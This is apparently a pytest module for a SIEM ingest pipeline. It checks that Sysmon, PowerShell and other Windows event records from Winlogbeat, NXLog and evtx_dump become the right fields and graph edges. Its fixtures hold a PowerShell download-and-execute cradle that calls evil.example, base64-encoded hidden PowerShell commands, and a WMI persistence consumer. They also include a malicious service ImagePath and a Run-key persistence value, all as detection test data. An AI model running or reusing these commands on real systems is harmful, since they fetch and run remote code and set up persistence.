"""Windows telemetry in the variants collectors write, end to end into the embedded graph.

Winlogbeat 7's sysmon module and Winlogbeat 8 / Elastic Agent rename event
data to ECS fields; newer Sysmon events (6, 15, 17-21, 25-29); optional Sysmon
values; the event data of unmapped events; a record without its channel; an
evtx_dump value split into text nodes.  Each record is realistic and written
inline; each test reads it through the real pipeline (``ingest_paths``) into a
fresh journal and embedded store.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from graphsiem.model import Event
from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.parsers.windows_fields import EVENT_DATA_CHARS, EVENT_DATA_FIELDS
from ingest.pipeline import ingest_paths

SYSMON = "Microsoft-Windows-Sysmon/Operational"
STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode()
PAYLOAD_SHA256 = "cc86b6e2a1e4f2d5ad0b5a8a3c7d9e1f00112233445566778899aabbccddeeff"


class Ingested:
    """What one ingest of some records left: its report, the journaled events and the graph."""

    def __init__(self, tmp_path: Path, records: list[dict[str, Any]]) -> None:
        tmp_path.mkdir(parents=True)
        path = tmp_path / "records.json"
        path.write_bytes(b"\n".join(orjson.dumps(record) for record in records) + b"\n")
        self.store = EmbeddedStore(tmp_path / "graph")
        with Journal(tmp_path / "journal.sqlite") as journal:
            self.report = ingest_paths([path], store=self.store, journal=journal, progress=False)
            self.events: list[Event] = [item.event for item in journal.iter_events()]
        assert self.report.total.accepted == self.report.total.received == len(records)

    def edges(self, relation: str) -> set[tuple[tuple[str, str], tuple[str, str]]]:
        return {(r.src, r.dst) for r in self.store.iter_relations(relation)}

    def entities(self, entity_type: str) -> dict[str, Any]:
        return {e.key: e for e in self.store.iter_entities(entity_type)}

    def close(self) -> None:
        self.store.close()


def ingest_into(tmp_path: Path) -> Iterator[Callable[..., Ingested]]:
    """The body of the ``ingest`` fixture, for the test modules that declare one of their own."""
    made: list[Ingested] = []

    def run(*records: dict[str, Any]) -> Ingested:
        result = Ingested(tmp_path / str(len(made)), list(records))
        made.append(result)
        return result

    yield run
    for result in made:
        result.close()


@pytest.fixture
def ingest(tmp_path: Path):
    yield from ingest_into(tmp_path)


def _winlogbeat(event_id: int, event_data: dict[str, Any] | None = None, channel: str = SYSMON,
                record_id: int = 1, **ecs: Any) -> dict[str, Any]:
    """A Winlogbeat 7/8 record; ``ecs`` are its top-level ECS objects."""
    winlog: dict[str, Any] = {"channel": channel, "computer_name": "WS-0042.corp.example.com",
                              "event_id": str(event_id), "record_id": str(record_id)}
    if event_data is not None:
        winlog["event_data"] = event_data
    return {"@timestamp": "2024-03-05T10:15:30.120Z", "host": {"name": "collector-01"},
            "event": {"code": str(event_id), "module": "sysmon"}, "winlog": winlog, **ecs}


def _sysmon(event_id: int, record_id: int = 1, **data: Any) -> dict[str, Any]:
    """A Winlogbeat 7 record that kept its Sysmon event data."""
    return _winlogbeat(event_id, {"UtcTime": "2024-03-05 10:15:30.120", **data}, record_id=record_id)


def _process(image: str, command_line: str) -> tuple[str, str]:
    from graphsiem.model import stable_hash
    from ingest.normalize import normalize_command_line

    return ("process", stable_hash(image.lower(), normalize_command_line(command_line)))


# -- H1: ECS-renamed Sysmon and PowerShell (Winlogbeat 7 sysmon module, 8, Elastic Agent) --------

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WSCRIPT = "C:\\Windows\\System32\\wscript.exe"


def test_renamed_sysmon_process_create_gives_the_raw_layouts_graph(ingest) -> None:
    """The audit's record: the module left only RuleName and IntegrityLevel in event_data."""
    command = f"powershell.exe -nop -w hidden -enc {ENCODED}"
    got = ingest(_winlogbeat(
        1, {"RuleName": "-", "IntegrityLevel": "Medium"},
        process={"entity_id": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}", "pid": 7788,
                 "executable": POWERSHELL, "command_line": command,
                 "hash": {"sha256": PAYLOAD_SHA256},
                 "parent": {"pid": 6600, "executable": WSCRIPT, "command_line": "wscript.exe invoice.vbs",
                            "entity_id": "{8b5e4f1a-7c2d-65e6-1a02-000000001000}"}},
        user={"name": "jdoe", "domain": "CORP"},
    ))
    [event] = got.events
    assert event.kind == "sysmon:process_create"
    assert event.fields["process.guid"] == "8b5e4f1a-7c2d-65e6-1a02-000000001100"
    assert event.fields["process.command_line_decoded"] == STAGER
    assert event.fields["process.hash.sha256"] == PAYLOAD_SHA256
    assert event.fields["process.integrity_level"] == "Medium"  # what event_data kept is still read
    child = _process(POWERSHELL, command)
    parent = _process(WSCRIPT, "wscript.exe invoice.vbs")
    assert (("host", "ws-0042"), child) in got.edges("RAN")
    assert (parent, child) in got.edges("SPAWNED")
    assert (child, ("user", "corp\\jdoe")) in got.edges("RUN_AS")
    assert got.entities("process")[child[1]].props["decoded_command"] == STAGER


def test_renamed_powershell_4104_without_event_data_gives_its_script(ingest) -> None:
    got = ingest({
        "@timestamp": "2024-03-05T10:55:00Z", "event": {"code": "4104"},
        "powershell": {"file": {"script_block_text": STAGER,
                                "script_block_id": "{4BD2E3A1-0000-4E6B-9C5C-1F2A3B4C5D6E}"},
                       "sequence": 1, "total": 1},
        "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "computer_name": "WS-0042",
                   "event_id": "4104", "record_id": "2", "process": {"pid": 6000}},
    })
    [event] = got.events
    assert event.kind == "powershell:script_block"
    assert event.fields["powershell.script_block_id"] == "4bd2e3a1-0000-4e6b-9c5c-1f2a3b4c5d6e"
    assert event.fields["process.pid"] == 6000
    assert (event.fields["powershell.message_number"], event.fields["powershell.message_total"]) == (1, 1)
    [(src, script)] = got.edges("EXECUTED")
    assert src == ("host", "ws-0042")
    assert got.entities("script")[script[1]].props["text"] == STAGER


def test_renamed_powershell_4103_context_is_read_from_its_ecs_fields(ingest) -> None:
    host_application = f"powershell.exe -nop -enc {ENCODED}"
    got = ingest({
        "@timestamp": "2024-03-05T10:55:01Z", "event": {"code": "4103"},
        "powershell": {"command": {"name": "New-Object", "type": "Cmdlet"}},
        "process": {"command_line": host_application, "title": "ConsoleHost"},
        "user": {"name": "jdoe", "domain": "CORP"},
        "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "computer_name": "WS-0042",
                   "event_id": 4103, "record_id": "3", "process": {"pid": 6000},
                   "event_data": {"Payload": "CommandInvocation(New-Object): \"New-Object\""}},
    })
    [event] = got.events
    assert event.kind == "powershell:pipeline"
    assert event.fields["powershell.command"] == "New-Object"
    assert event.fields["powershell.host_application"] == host_application
    assert event.fields["process.command_line_decoded"] == STAGER
    assert event.fields["user.name"] == "corp\\jdoe"


def test_renamed_sysmon_network_dns_and_file_events_keep_their_entities(ingest) -> None:
    process = {"entity_id": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}", "pid": 7788, "executable": POWERSHELL}
    got = ingest(
        _winlogbeat(3, {"RuleName": "-"}, record_id=3, process=process, user={"name": "jdoe", "domain": "CORP"},
                    source={"ip": "10.1.2.42", "port": 50123, "domain": "WS-0042.corp.example.com"},
                    destination={"ip": "203.0.113.7", "port": 443},
                    network={"transport": "tcp", "direction": "egress"}),
        _winlogbeat(22, None, record_id=4, process=process,
                    dns={"question": {"name": "evil.example"},
                         "answers": [{"type": "CNAME", "data": "cdn.evil.example"},
                                     {"type": "A", "data": "203.0.113.7"}],
                         "resolved_ip": ["203.0.113.7"]}),
        _winlogbeat(11, None, record_id=5, process=process,
                    file={"path": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.ps1"}),
    )
    connect, dns, created = got.events
    assert connect.fields["host.ip"] == "10.1.2.42"
    assert connect.fields["network.direction"] == "outbound"
    assert dns.fields["dns.answers"] == ["cdn.evil.example", "203.0.113.7"]
    assert created.kind == "sysmon:file_create"
    assert (("host", "ws-0042"), ("ip", "203.0.113.7")) in got.edges("CONNECTED")
    assert (("domain", "evil.example"), ("ip", "203.0.113.7")) in got.edges("RESOLVES_TO")
    assert ("file", "c:\\users\\jdoe\\appdata\\local\\temp\\a.ps1") in {dst for _, dst in got.edges("WROTE")}


def test_event_data_wins_over_ecs_fields_when_the_record_kept_it(ingest) -> None:
    """A plain Winlogbeat 7 record (no module) with an agent's own process.* beside its event data."""
    got = ingest(_sysmon(5, Image="C:\\Tools\\a.exe", ProcessId="42",
                         ProcessGuid="{11111111-2222-3333-4444-555555555555}")
                 | {"process": {"executable": "C:\\Program Files\\Winlogbeat\\winlogbeat.exe", "pid": 1}})
    [event] = got.events
    assert event.fields["process.executable"] == "C:\\Tools\\a.exe"
    assert event.fields["process.pid"] == 42


# -- H7: newer Sysmon events -------------------------------------------------------------------

DROPPER = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\dropper.exe"
PROCESS_DATA = {"ProcessGuid": "{8B5E4F1A-7C2D-65E6-1A02-000000001200}", "ProcessId": "4242",
                "Image": DROPPER, "User": "CORP\\jdoe"}


def test_sysmon_29_executable_detected_is_a_written_file_known_by_its_hash(ingest) -> None:
    got = ingest(_sysmon(29, **PROCESS_DATA, TargetFilename="C:\\Users\\Public\\payload.exe",
                         Hashes=f"MD5=0123456789ABCDEF0123456789ABCDEF,SHA256={PAYLOAD_SHA256.upper()}"))
    [event] = got.events
    assert event.kind == "sysmon:file_executable_detected"
    [(writer, file)] = got.edges("WROTE")
    assert writer == _process(DROPPER, "")
    assert file == ("file", PAYLOAD_SHA256)
    assert got.entities("file")[PAYLOAD_SHA256].props["path"] == "C:\\Users\\Public\\payload.exe"


def test_sysmon_26_delete_detected_is_a_deleted_file(ingest) -> None:
    got = ingest(_sysmon(26, **PROCESS_DATA, TargetFilename="C:\\Users\\Public\\payload.exe",
                         Hashes=f"SHA256={PAYLOAD_SHA256}", IsExecutable="true"))
    assert got.events[0].kind == "sysmon:file_delete_detected"
    assert got.edges("DELETED") == {(_process(DROPPER, ""), ("file", PAYLOAD_SHA256))}


def test_sysmon_27_blocked_executable_is_sighted_without_a_written_relation(ingest) -> None:
    got = ingest(_sysmon(27, **PROCESS_DATA, TargetFilename="C:\\Users\\Public\\payload.exe",
                         Hashes=f"SHA256={PAYLOAD_SHA256}"))
    assert got.events[0].kind == "sysmon:file_block_executable"
    assert got.edges("WROTE") == set()
    assert [s.host for s in got.store.hosts_of("file", PAYLOAD_SHA256)] == ["ws-0042"]


def test_sysmon_15_zone_identifier_links_the_download_to_its_url(ingest) -> None:
    chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    got = ingest(_sysmon(
        15, ProcessGuid="{8B5E4F1A-7C2D-65E6-1A02-000000001300}", ProcessId="5100", Image=chrome,
        TargetFilename="C:\\Users\\jdoe\\Downloads\\invoice.exe:Zone.Identifier",
        CreationUtcTime="2024-03-05 10:15:29.000",
        Hash="SHA256=1DF6B0A0E4C2F1D3B5A79886A5F4E3D2C1B0A9F8E7D6C5B4A3F2E1D0C9B8A796",
        Contents="[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.example.com/  "
                 "HostUrl=https://Downloads.Evil.example/payloads/invoice.exe  ",
        User="CORP\\jdoe",
    ))
    [event] = got.events
    assert event.kind == "sysmon:file_stream_create"
    assert event.fields["file.path"] == "C:\\Users\\jdoe\\Downloads\\invoice.exe"
    assert event.fields["file.stream.name"] == "Zone.Identifier"
    assert event.fields["file.zone_id"] == 3
    assert event.fields["http.request.referrer"] == "https://mail.example.com/"
    assert "file.hash.sha256" not in event.fields  # the mark's hash is not the file's
    file = ("file", "c:\\users\\jdoe\\downloads\\invoice.exe")
    url = ("url", "https://downloads.evil.example/payloads/invoice.exe")
    assert (("host", "ws-0042"), file) in got.edges("DOWNLOADED")
    assert (file, url) in got.edges("SERVED_BY")
    assert (url, ("domain", "downloads.evil.example")) in got.edges("ON")
    assert (_process(chrome, ""), file) in got.edges("WROTE")


def test_sysmon_15_other_stream_is_its_own_file_known_by_its_hash(ingest) -> None:
    got = ingest(_sysmon(15, **PROCESS_DATA, TargetFilename="C:\\ProgramData\\log.txt:payload.dll",
                         Hash=f"SHA256={PAYLOAD_SHA256}"))
    [event] = got.events
    assert event.fields["file.stream.name"] == "payload.dll"
    assert got.edges("WROTE") == {(_process(DROPPER, ""), ("file", PAYLOAD_SHA256))}
    assert got.edges("DOWNLOADED") == set()


def test_sysmon_6_driver_load_is_a_loaded_file_with_its_signature(ingest) -> None:
    got = ingest(_sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\evil.sys",
                         Hashes=f"SHA256={PAYLOAD_SHA256},IMPHASH=00112233445566778899AABBCCDDEEFF",
                         Signed="true", Signature="Totally Legit Ltd", SignatureStatus="Expired"))
    [event] = got.events
    assert event.kind == "sysmon:driver_load"
    assert got.edges("LOADED") == {(("host", "ws-0042"), ("file", PAYLOAD_SHA256))}
    props = got.entities("file")[PAYLOAD_SHA256].props
    assert (props["signed"], props["signature"], props["signature_status"]) == (
        True, "Totally Legit Ltd", "Expired")


def test_sysmon_19_to_21_wmi_persistence_consumer_is_searchable_decoded(ingest) -> None:
    command = f"powershell.exe -NoP -NonI -W Hidden -enc {ENCODED}"
    got = ingest(
        _sysmon(19, record_id=1, EventType="WmiFilterEvent", Operation="Created", User="CORP\\admin",
                EventNamespace='"root\\\\cimv2"', Name='"Updater"',
                Query="\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                      "'Win32_PerfFormattedData_PerfOS_System'\""),
        _sysmon(20, record_id=2, EventType="WmiConsumerEvent", Operation="Created", User="CORP\\admin",
                Name='"Updater"', Type="Command Line", Destination=f'"{command}"'),
        _sysmon(21, record_id=3, EventType="WmiBindingEvent", Operation="Created", User="CORP\\admin",
                Consumer='"CommandLineEventConsumer.Name=\\"Updater\\""',
                Filter='"__EventFilter.Name=\\"Updater\\""'),
    )
    wmi_filter, consumer, binding = got.events
    assert (wmi_filter.kind, consumer.kind, binding.kind) == (
        "sysmon:wmi_filter", "sysmon:wmi_consumer", "sysmon:wmi_binding")
    assert "Win32_PerfFormattedData_PerfOS_System" in wmi_filter.fields["wmi.filter.query"]
    assert consumer.fields["wmi.consumer.destination_decoded"] == STAGER
    assert binding.fields["wmi.consumer.name"].startswith('"CommandLineEventConsumer')
    assert consumer.fields["user.name"] == "corp\\admin"
    [hit] = got.store.search_entities("downloadstring('http://evil.example", entity_type="script")
    assert hit.entity.props["wmi_command"] == f'"{command}"'
    # sighted when it runs (its 4104); until then the host's link is the command it installed
    assert got.store.hosts_of("script", hit.entity.key) == []
    assert [sighting.host for sighting in got.store.hosts_of(*_process(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", command))] == ["ws-0042"]


def test_sysmon_pipes_and_tampering_keep_their_values_as_fields(ingest) -> None:
    got = ingest(
        _sysmon(17, record_id=1, **PROCESS_DATA, EventType="CreatePipe", PipeName="\\MSSE-1234-server"),
        _sysmon(18, record_id=2, **PROCESS_DATA, EventType="ConnectPipe", PipeName="\\postex_8a2f"),
        _sysmon(25, record_id=3, **PROCESS_DATA, Type="Image is replaced"),
    )
    created, connected, tampering = got.events
    assert (created.kind, created.fields["pipe.name"]) == ("sysmon:pipe_created", "\\MSSE-1234-server")
    assert (connected.kind, connected.fields["pipe.name"]) == ("sysmon:pipe_connected", "\\postex_8a2f")
    assert (tampering.kind, tampering.fields["event.action"]) == ("sysmon:process_tampering", "Image is replaced")
    assert (("host", "ws-0042"), _process(DROPPER, "")) in got.edges("RAN")


# -- M2: optional Sysmon values ----------------------------------------------------------------


def test_sysmon_1_7_10_optional_values_are_fields(ingest) -> None:
    got = ingest(
        _sysmon(1, record_id=1, **PROCESS_DATA, CommandLine="dropper.exe /s", ParentImage=WSCRIPT,
                ParentProcessId="6600", ParentUser="CORP\\jdoe", OriginalFileName="setup.exe",
                LogonId="0x3E7A1F", LogonGuid="{8B5E4F1A-0000-0000-0000-000000001F3A}", TerminalSessionId="1"),
        _sysmon(7, record_id=2, **PROCESS_DATA, ImageLoaded="C:\\Users\\Public\\evil.dll",
                Hashes=f"SHA256={PAYLOAD_SHA256}", OriginalFileName="helper.dll", Signed="false",
                Signature="-", SignatureStatus="Unavailable"),
        _sysmon(10, record_id=3, SourceProcessGUID="{8B5E4F1A-7C2D-65E6-1A02-000000001200}",
                SourceProcessId="4242", SourceImage=DROPPER, TargetImage="C:\\Windows\\system32\\lsass.exe",
                TargetProcessId="700", GrantedAccess="0x1010",
                CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(00000000004A12F3)"),
    )
    create, load, access = got.events
    assert {key: create.fields[key] for key in (
        "process.parent.user.name", "process.pe.original_file_name", "winlog.logon.id", "winlog.logon.guid",
        "process.terminal_session_id")} == {
        "process.parent.user.name": "corp\\jdoe", "process.pe.original_file_name": "setup.exe",
        "winlog.logon.id": "0x3e7a1f", "winlog.logon.guid": "8b5e4f1a-0000-0000-0000-000000001f3a",
        "process.terminal_session_id": 1}
    assert load.fields["file.pe.original_file_name"] == "helper.dll"
    assert load.fields["file.code_signature.signed"] is False
    assert load.fields["file.code_signature.status"] == "Unavailable"
    assert "file.code_signature.subject_name" not in load.fields  # "-" is unset
    assert access.fields["process.call_trace"].endswith("UNKNOWN(00000000004A12F3)")


# -- M1: the event data of unmapped events ----------------------------------------------------

SERVICE_COMMAND = f"%COMSPEC% /c start /min powershell -nop -w hidden -enc {ENCODED}"


def test_unmapped_event_keeps_its_event_data_searchable_and_decoded(ingest) -> None:
    """An unmapped System event with 7045's data (7045 itself is a service install now, see
    test_windows_persistence.py), as Winlogbeat and as NXLog write it: an ``ImagePath`` is decoded
    wherever it is."""
    service = {"ServiceName": "BTOBTO", "ImagePath": SERVICE_COMMAND, "ServiceType": "user mode service",
               "StartType": "demand start", "AccountName": "LocalSystem"}
    got = ingest(
        _winlogbeat(7099, service, channel="System"),
        {"EventTime": "2024-03-05 10:16:00", "Hostname": "WS-0043.corp.example.com", "EventID": 7099,
         "SourceName": "Service Control Manager", "Channel": "System", "Severity": "INFO",
         "Message": "A service was installed in the system.", "EventReceivedTime": "2024-03-05 10:16:01",
         "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog", **service},
    )
    for event in got.events:
        assert event.kind == "windows:other"
        assert event.fields["winlog.event_data.ServiceName"] == "BTOBTO"
        assert event.fields["winlog.event_data.ImagePath"] == SERVICE_COMMAND
        assert event.fields["winlog.event_data.ImagePath_decoded"] == STAGER
    nxlog = got.events[1]
    # the envelope of a flat record is not event data (AccountName is 7045's own here: a
    # known NXLog envelope name, so it is left to the raw record)
    assert not {"winlog.event_data.Hostname", "winlog.event_data.EventTime",
                "winlog.event_data.SourceModuleName"} & nxlog.fields.keys()
    assert nxlog.fields["message"] == "A service was installed in the system."


def test_unmapped_event_data_is_bounded(ingest) -> None:
    data = {f"Param{i}": f"value {i}" for i in range(100)} | {"Param0": "x" * 5000}
    got = ingest(_winlogbeat(4699, data, channel="Security"))  # a task deleted: unmapped
    [event] = got.events
    kept = {key: value for key, value in event.fields.items() if key.startswith("winlog.event_data.")}
    assert len(kept) == EVENT_DATA_FIELDS
    assert len(kept["winlog.event_data.Param0"]) == EVENT_DATA_CHARS


# -- L6, L7 -----------------------------------------------------------------------------------


def test_sysmon_record_without_channel_is_read_by_its_provider(ingest) -> None:
    record = _sysmon(1, **PROCESS_DATA, CommandLine="dropper.exe /s")
    del record["winlog"]["channel"]
    record["winlog"]["provider_name"] = "Microsoft-Windows-Sysmon"
    got = ingest(record)
    [event] = got.events
    assert event.kind == "sysmon:process_create"
    assert event.fields["event.channel"] == SYSMON
    assert (("host", "ws-0042"), _process(DROPPER, "dropper.exe /s")) in got.edges("RAN")


def test_evtx_dump_value_split_into_text_nodes_is_one_text(ingest) -> None:
    """evtx_dump writes a value around an escaped ``&`` as a list of text nodes."""
    command = ["cmd.exe /c whoami ", "&", " net user"]
    system = {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
              "Channel": SYSMON, "Computer": "WS-0044",
              "TimeCreated": {"#attributes": {"SystemTime": "2024-03-05T10:20:00.000000Z"}}}
    named = {"Event": {"System": system, "EventData": {"Data": [
        {"#attributes": {"Name": "UtcTime"}, "#text": "2024-03-05 10:20:00.000"},
        {"#attributes": {"Name": "Image"}, "#text": "C:\\Windows\\System32\\cmd.exe"},
        {"#attributes": {"Name": "CommandLine"}, "#text": command},
    ]}}}
    flat = {"Event": {"System": system | {"EventRecordID": 2}, "EventData": {
        "UtcTime": "2024-03-05 10:20:01.000", "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": {"#text": command}}}}
    got = ingest(named, flat)
    assert [event.fields["process.command_line"] for event in got.events] == [
        "cmd.exe /c whoami & net user"] * 2
    assert len(got.entities("process")) == 1


# -- the review of the ECS fallback: what Winlogbeat 8's sysmon pipeline moves out ---------------

def test_renamed_registry_value_and_blocked_file_events_keep_their_values(ingest) -> None:
    process = {"entity_id": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}", "pid": 7788, "executable": DROPPER}
    run_key = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"
    got = ingest(
        _winlogbeat(13, {"RuleName": "-", "EventType": "SetValue"}, record_id=1, process=process,
                    registry={"path": run_key, "data": {"strings": ["C:\\Users\\jdoe\\evil.exe"], "type": "SZ"}}),
        _winlogbeat(27, {"RuleName": "-"}, record_id=2, process=process, user={"name": "jdoe", "domain": "CORP"},
                    file={"path": "C:\\Users\\Public\\payload.exe"}),
    )
    registry, blocked = got.events
    assert (registry.fields["registry.path"], registry.fields["registry.value"]) == (
        run_key, "C:\\Users\\jdoe\\evil.exe")
    assert blocked.fields["file.path"] == "C:\\Users\\Public\\payload.exe"
    assert blocked.fields["process.executable"] == DROPPER and blocked.fields["user.name"] == "corp\\jdoe"


def test_renamed_tampering_type_is_read_back_from_the_message(ingest) -> None:
    """Winlogbeat 8 renames Sysmon 25's Type to message when the record has no rendered message."""
    process = {"entity_id": "{9497d8d9-b78b-6037-6f13-000000001000}", "pid": 2628, "executable": DROPPER}
    rendered = "Process Tampering:\r\nRuleName: -\r\nType: Image is replaced\r\nImage: " + DROPPER
    got = ingest(
        _winlogbeat(25, None, record_id=1, process=process, message="Image is replaced"),
        _winlogbeat(25, {"Type": "Image is locked for access"}, record_id=2, process=process, message=rendered),
        # the rename failed (a rendered message was there) and Type was dropped after: no action, not the message
        _winlogbeat(25, None, record_id=3, process=process, message=rendered),
    )
    moved, kept, lost = got.events
    assert (moved.kind, moved.fields["event.action"]) == ("sysmon:process_tampering", "Image is replaced")
    assert moved.fields["process.executable"] == DROPPER
    assert kept.fields["event.action"] == "Image is locked for access"
    assert "event.action" not in lost.fields and lost.fields["process.pid"] == 2628


@pytest.mark.parametrize(("status", "rcode"), [
    ("SUCCESS", "0"),  # the pipeline writes the name of the status code Sysmon wrote
    ("DNS_ERROR_RCODE_NAME_ERROR", "9003"),
    ("DNS_INFO_NO_RECORDS", "9501"),
    ("ERROR_TIMEOUT", "1460"),
    ("1234", "1234"),  # a code it has no name for stays the code
    (9003, "9003"),
])
def test_renamed_dns_query_status_is_read_back_as_sysmons_code(ingest, status: object, rcode: str) -> None:
    process = {"entity_id": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}", "pid": 7788, "executable": POWERSHELL}
    got = ingest(
        _winlogbeat(22, None, record_id=1, process=process,
                    dns={"question": {"name": "evil.example"}}, sysmon={"dns": {"status": status}}),
        _sysmon(22, record_id=2, ProcessGuid=process["entity_id"], ProcessId="7788", Image=POWERSHELL,
                QueryName="evil.example", QueryStatus=rcode),
    )
    renamed, raw = got.events
    assert renamed.fields["dns.rcode"] == raw.fields["dns.rcode"] == rcode
